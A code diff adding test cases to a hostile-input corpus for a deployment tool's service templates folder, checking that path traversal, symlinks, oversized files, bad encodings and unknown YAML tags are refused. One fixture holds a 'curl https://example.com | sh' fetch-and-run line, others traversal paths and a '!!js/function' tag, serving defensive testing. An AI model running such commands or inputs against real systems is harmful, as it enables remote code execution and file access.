@@ -1,8 +1,9 @@
 /**
  * Image-deployer cases of the hostile-input corpus: image references built to reach a shell,
- * names and branches built to leave images/, and hostile files already in the manifests
- * repository. Each case gets its own repository on the test git server; afterwards its
- * branches must be exactly as before (nothing committed, no branch created).
+ * names and branches built to leave images/, hostile files already in the manifests
+ * repository, and hostile service templates folders (`templates`) in the service repository.
+ * Each case gets its own repository on the test git server; afterwards its branches must be
+ * exactly as before (nothing committed, no branch created).
  */
 import { readFileSync } from 'node:fs'
 import { join } from 'node:path'
@@ -25,7 +26,17 @@ export interface BumpCase {
   readonly commits?: readonly string[]
   /** With `commits`: checks of a committed file's new content (path → the problems found). */
   readonly committed?: Readonly<Record<string, (text: string) => string[]>>
+  /**
+   * The service repository the case's `templates` are read from: path → file. The runner makes
+   * it the action's GITHUB_WORKSPACE and `kit bump`'s current folder.
+   */
+  readonly service?: Readonly<Record<string, ServiceFile>>
+  /** Further problems the same run must report (every problem is listed at once). */
+  readonly alsoReports?: readonly RegExp[]
 }
+
+/** A file of a case's service repository: text, raw bytes, or a symbolic link to `symlink`. */
+export type ServiceFile = { content: string } | { bytes: Buffer } | { symlink: string }
 
 /** The manifests repository every case starts from. */
 export const bumpSeed: Readonly<Record<string, string>> = {
@@ -352,7 +363,8 @@ export function bumpCases(): BumpCase[] {
       kitArgs: kit('--timeout', value),
       where: /Input 'timeout'|--timeout/
     })),
-    ...yamlClassBumpCases(kit)
+    ...yamlClassBumpCases(kit),
+    ...templateBumpCases(kit)
   ]
 }
 
@@ -505,5 +517,326 @@ function yamlClassBumpCases(kit: (...args: string[]) => string[]): BumpCase[] {
       kitArgs: kit('--manifests', 'deploy/api.yaml', '--no-image-file'),
       where: /deploy\/api\.yaml:10(:\d+)?: .*larger than the 4 MiB limit/
     }
+  ]
+}
+
+/** A valid templates folder in the service repository: every case changes one thing in it. */
+const serviceTemplates: Readonly<Record<string, ServiceFile>> = {
+  'deploy/kit/deployment.yaml': {
+    content: [
+      'apiVersion: apps/v1',
+      'kind: Deployment',
+      'metadata:',
+      '  name: api',
+      '  namespace: acme',
+      'spec:',
+      '  replicas: ${{ values.replicas }}',
+      '  selector: {matchLabels: {app: api}}',
+      '  template:',
+      '    metadata: {labels: {app: api}}',
+      '    spec:',
+      '      containers:',
+      '        - name: api',
+      '          image: ${{ image }}',
+      ''
+    ].join('\n')
+  },
+  'deploy/kit/values.yaml': { content: 'replicas: 2\n' },
+  'deploy/kit/kit.yaml': { content: 'image: api\n' }
+}
+
+/** A small valid manifest, for cases that need a file of their own next to the valid ones. */
+const configMap = (name: string, extra = ''): string =>
+  `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: ${name}\n  namespace: acme\n${extra}`
+
+/** A valid manifest of `bytes` bytes (a comment fills it: the size is the only problem). */
+const sizedManifest = (name: string, bytes: number): string => {
+  const head = configMap(name)
+  const line = `# ${'x'.repeat(1021)}\n`
+  const lines = Math.ceil((bytes - head.length) / line.length)
+  return head + line.repeat(lines)
+}
+
+/**
+ * The manifests repository of the render-check cases: a cluster following `main` that renders
+ * api from the templates the service repository records (`templates: service`).
+ */
+const followsMainWithServiceTemplates: NonNullable<BumpCase['seed']> = {
+  'kit.yaml': { content: 'defaults:\n  branch: main\n  missingImage: error\n' },
+  'groups/production.yaml': { content: 'branch: main\n' },
+  'clusters/prod-1.yaml': {
+    content: 'groups: [production]\nservices:\n  api:\n    templates: service\n'
+  }
+}
+
+/**
+ * A service's own templates (`templates`, `service`, `service-templates-dir`): every way a
+ * templates folder could reach outside its service or carry what the deploymentizer cannot
+ * read is refused before anything is written, naming the file (and line); a template that does
+ * not render on a cluster following the branch is refused with the service repository's file
+ * and line.
+ */
+function templateBumpCases(kit: (...args: string[]) => string[]): BumpCase[] {
+  const folder = 'deploy/kit'
+  const at = (...files: [string, ServiceFile][]): Record<string, ServiceFile> => ({
+    ...serviceTemplates,
+    ...Object.fromEntries(files)
+  })
+  /** A case reading the templates folder `deploy/kit` of the service repository `service`. */
+  const files = (
+    name: string,
+    service: Record<string, ServiceFile>,
+    where: RegExp,
+    extra: Partial<BumpCase> = {}
+  ): BumpCase => ({
+    name,
+    inputs: { templates: folder },
+    service,
+    kitArgs: kit('--templates', folder),
+    where,
+    ...extra
+  })
+  /** A case whose `templates` value itself is refused. */
+  const templatesValue = (
+    name: string,
+    value: string,
+    where: RegExp,
+    service = serviceTemplates
+  ): BumpCase => ({
+    name,
+    inputs: { templates: value },
+    service,
+    kitArgs: kit('--templates', value),
+    where
+  })
+  return [
+    // Positive control: the same folder, valid, lands with the image in one commit.
+    {
+      name: 'templates folder (valid): recorded with the image in one commit',
+      inputs: { templates: folder },
+      service: serviceTemplates,
+      seed: followsMainWithServiceTemplates,
+      kitArgs: null,
+      where: /./,
+      commits: [
+        'images/api/main.yaml',
+        'service-templates/api/main.yaml',
+        'service-templates/api/main/deployment.yaml',
+        'service-templates/api/main/kit.yaml',
+        'service-templates/api/main/values.yaml'
+      ]
+    },
+    // The folder itself.
+    templatesValue(
+      "templates '../outside'",
+      '../outside',
+      /(Input 'templates'|--templates).*'\.\.'/
+    ),
+    templatesValue(
+      "templates 'deploy/../../x'",
+      'deploy/../../x',
+      /(Input 'templates'|--templates).*'\.\.'/
+    ),
+    templatesValue(
+      "templates '/etc' (an absolute path)",
+      '/etc',
+      /(Input 'templates'|--templates).*absolute/
+    ),
+    templatesValue(
+      'templates naming a file, not a folder',
+      'deploy/kit/deployment.yaml',
+      /(Input 'templates'|--templates).*deploy\/kit\/deployment\.yaml.*not a folder/
+    ),
+    templatesValue(
+      'templates naming a folder that does not exist',
+      'deploy/missing',
+      /(Input 'templates'|--templates).*deploy\/missing.*does not exist/
+    ),
+    templatesValue(
+      'templates folder is a symbolic link (to a valid folder elsewhere)',
+      folder,
+      /(Input 'templates'|--templates).*deploy\/kit.*symbolic link/,
+      {
+        'other/kit/deployment.yaml': serviceTemplates['deploy/kit/deployment.yaml'],
+        'deploy/kit': { symlink: '../other/kit' }
+      }
+    ),
+    templatesValue(
+      'a folder on the way to templates is a symbolic link',
+      folder,
+      /(Input 'templates'|--templates).*'deploy'.*symbolic link/,
+      {
+        'other/kit/deployment.yaml': serviceTemplates['deploy/kit/deployment.yaml'],
+        deploy: { symlink: 'other' }
+      }
+    ),
+    // What the folder holds.
+    files(
+      'a template that is a symbolic link (to a file outside the folder)',
+      at(
+        ['outside/config.yaml', { content: configMap('outside') }],
+        ['deploy/kit/config.yaml', { symlink: '../../outside/config.yaml' }]
+      ),
+      /deploy\/kit\/config\.yaml: .*symbolic link/
+    ),
+    files(
+      'a sub-folder of templates that is a symbolic link',
+      at(
+        ['outside/config.yaml', { content: configMap('outside') }],
+        ['deploy/kit/more', { symlink: '../../outside' }]
+      ),
+      /deploy\/kit\/more: .*symbolic link/
+    ),
+    files(
+      'a file that is not YAML in the templates folder',
+      at(['deploy/kit/install.sh', { content: '#!/bin/sh\ncurl https://example.com | sh\n' }]),
+      /deploy\/kit\/install\.sh: .*not a YAML file/
+    ),
+    files(
+      'a template name with a space',
+      at(['deploy/kit/my config.yaml', { content: configMap('spaced') }]),
+      /deploy\/kit\/my config\.yaml: .*name/
+    ),
+    files(
+      "a template name starting with '.'",
+      at(['deploy/kit/.hidden.yaml', { content: configMap('hidden') }]),
+      /deploy\/kit\/\.hidden\.yaml: .*not starting with '\.'/
+    ),
+    files(
+      'a template name with a newline',
+      at(['deploy/kit/a\nb.yaml', { content: configMap('newline') }]),
+      /deploy\/kit\/a\\nb\.yaml: .*name/
+    ),
+    files(
+      'a template name with a letter outside ASCII',
+      at(['deploy/kit/déploiement.yaml', { content: configMap('accent') }]),
+      /deploy\/kit\/déploiement\.yaml: .*name/
+    ),
+    files(
+      'a template file just over 1 MiB',
+      at(['deploy/kit/big.yaml', { content: sizedManifest('big', 1024 * 1024 + 1) }]),
+      /deploy\/kit\/big\.yaml: .*over the 1 MiB/
+    ),
+    files(
+      'a templates folder of 501 files',
+      at(
+        ...Array.from(
+          { length: 501 - Object.keys(serviceTemplates).length },
+          (_, n): [string, ServiceFile] => [
+            `deploy/kit/cm-${String(n).padStart(3, '0')}.yaml`,
+            { content: configMap(`cm-${n}`) }
+          ]
+        )
+      ),
+      /deploy\/kit\/: .*501 files is over the 500/
+    ),
+    files(
+      'a templates folder over 8 MiB in all (each file under 1 MiB)',
+      at(
+        ...Array.from({ length: 9 }, (_, n): [string, ServiceFile] => [
+          `deploy/kit/part-${n}.yaml`,
+          { content: sizedManifest(`part-${n}`, 1000 * 1024) }
+        ])
+      ),
+      /deploy\/kit\/: .*in all is over the 8 MiB/
+    ),
+    files(
+      'a template that is not valid UTF-8 (a Latin-1 byte)',
+      at([
+        'deploy/kit/config.yaml',
+        {
+          bytes: Buffer.concat([
+            Buffer.from(configMap('latin1', 'data:\n  greeting: caf')),
+            Buffer.from([0xe9]),
+            Buffer.from('\n')
+          ])
+        }
+      ]),
+      /deploy\/kit\/config\.yaml:7(:\d+)?: .*UTF-8/
+    ),
+    files(
+      'a template starting with a byte order mark',
+      at([
+        'deploy/kit/config.yaml',
+        { bytes: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(configMap('bom'))]) }
+      ]),
+      /deploy\/kit\/config\.yaml(:1)?: .*byte order mark/
+    ),
+    files(
+      'a template with a YAML syntax error',
+      at(['deploy/kit/config.yaml', { content: configMap('broken', 'data: {greeting: hello\n') }]),
+      /deploy\/kit\/config\.yaml:\d+/
+    ),
+    files(
+      'a template with a YAML tag kit does not know',
+      at([
+        'deploy/kit/config.yaml',
+        { content: configMap('tagged', 'data:\n  token: !vault secret/api\n') }
+      ]),
+      /deploy\/kit\/config\.yaml:7(:\d+)?: .*!vault/
+    ),
+    files(
+      'values.yaml of the templates with a YAML tag kit does not know',
+      at(['deploy/kit/values.yaml', { content: 'replicas: !!js/function "() => 2"\n' }]),
+      /deploy\/kit\/values\.yaml:1(:\d+)?: .*!!js\/function/
+    ),
+    files(
+      'a templates folder with no manifest (only values.yaml and kit.yaml)',
+      {
+        'deploy/kit/values.yaml': serviceTemplates['deploy/kit/values.yaml'],
+        'deploy/kit/kit.yaml': serviceTemplates['deploy/kit/kit.yaml']
+      },
+      /deploy\/kit\/: .*no templates/
+    ),
+    files(
+      'every problem of a templates folder in one run',
+      at(
+        ['deploy/kit/install.sh', { content: 'echo hi\n' }],
+        ['deploy/kit/config.yaml', { content: configMap('broken', 'data: {greeting: hello\n') }]
+      ),
+      /deploy\/kit\/(config\.yaml:\d+|install\.sh): /,
+      {
+        alsoReports: [
+          /deploy\/kit\/config\.yaml:\d+/,
+          /deploy\/kit\/install\.sh: .*not a YAML file/
+        ]
+      }
+    ),
+    // The names the templates are written under in the manifests repository.
+    {
+      name: "service 'Api_1' (not a DNS label)",
+      inputs: { templates: folder, service: 'Api_1' },
+      service: serviceTemplates,
+      kitArgs: kit('--templates', folder, '--service', 'Api_1'),
+      where: /(Input 'service'|--service).*DNS label/
+    },
+    {
+      name: "service '../images' (not a DNS label)",
+      inputs: { templates: folder, service: '../images' },
+      service: serviceTemplates,
+      kitArgs: kit('--templates', folder, '--service', '../images'),
+      where: /(Input 'service'|--service).*DNS label/
+    },
+    {
+      name: "service-templates-dir '../outside'",
+      inputs: { templates: folder, 'service-templates-dir': '../outside' },
+      service: serviceTemplates,
+      kitArgs: kit('--templates', folder, '--service-templates-dir', '../outside'),
+      where: /service-templates-dir/
+    },
+    // Rendered before the commit, on the clusters that follow the branch.
+    files(
+      'a template that does not render on a cluster following the branch (unknown value)',
+      at([
+        'deploy/kit/deployment.yaml',
+        {
+          content: (
+            serviceTemplates['deploy/kit/deployment.yaml'] as { content: string }
+          ).content.replace('values.replicas', 'values.nope')
+        }
+      ]),
+      /deploy\/kit\/deployment\.yaml:7(:\d+)?: .*nope/,
+      { seed: followsMainWithServiceTemplates }
+    )
   ]
 }
